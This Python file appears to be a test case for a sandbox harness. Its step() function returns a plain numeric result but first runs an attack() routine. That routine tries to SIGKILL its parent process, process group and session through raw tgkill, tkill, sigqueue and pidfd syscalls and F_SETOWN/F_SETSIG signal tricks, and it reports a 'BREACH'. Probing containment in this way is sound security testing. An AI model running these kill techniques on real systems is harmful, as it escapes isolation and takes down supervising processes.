# verdicts: accepted runtime_error
# contained in: landlock namespaces
# looks for: breach bystander
# run: more
"""Signals its parent without kill(): owners of descriptors, timers, threads."""

import fcntl
import os
import signal
import socket
import time
import ctypes

import numpy as np


def good(seed, x):
    return np.asarray([2 * np.asarray(x).sum() + seed], np.float32)


def attack():
    pp = os.getppid()
    libc = ctypes.CDLL(None, use_errno=True)
    if pp > 1:
        print("tgkill", libc.syscall(234, pp, pp, 9), ctypes.get_errno())
        print("tkill", libc.syscall(200, pp, 9), ctypes.get_errno())
        info = (ctypes.c_int * 32)(9, 0, -1, 0, os.getpid(), 0)
        print("sigqueue", libc.syscall(129, pp, 9, info), ctypes.get_errno())
        print("tgsigqueue", libc.syscall(297, pp, pp, 9, info), ctypes.get_errno())
        try:
            fd = os.pidfd_open(pp)
            print("pidfd", signal.pidfd_send_signal(fd, 9))
        except OSError as e:
            print(e)
        for target in (pp, -os.getpgrp(), -os.getsid(0)):
            if target in (-os.getpid(), -1, 0):
                continue
            a, b = socket.socketpair()
            try:
                fcntl.fcntl(a, fcntl.F_SETOWN, target)
                fcntl.fcntl(a, 10, 9)  # F_SETSIG SIGKILL
                fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                b.send(b"x" * 100)
                time.sleep(0.2)
                print("setown done", target)
            except OSError as e:
                print("setown", e)
    time.sleep(0.5)
    if os.getppid() != pp:
        print("BREACH: parent gone")


def step(seed, x):
    attack()
    return good(seed, x)
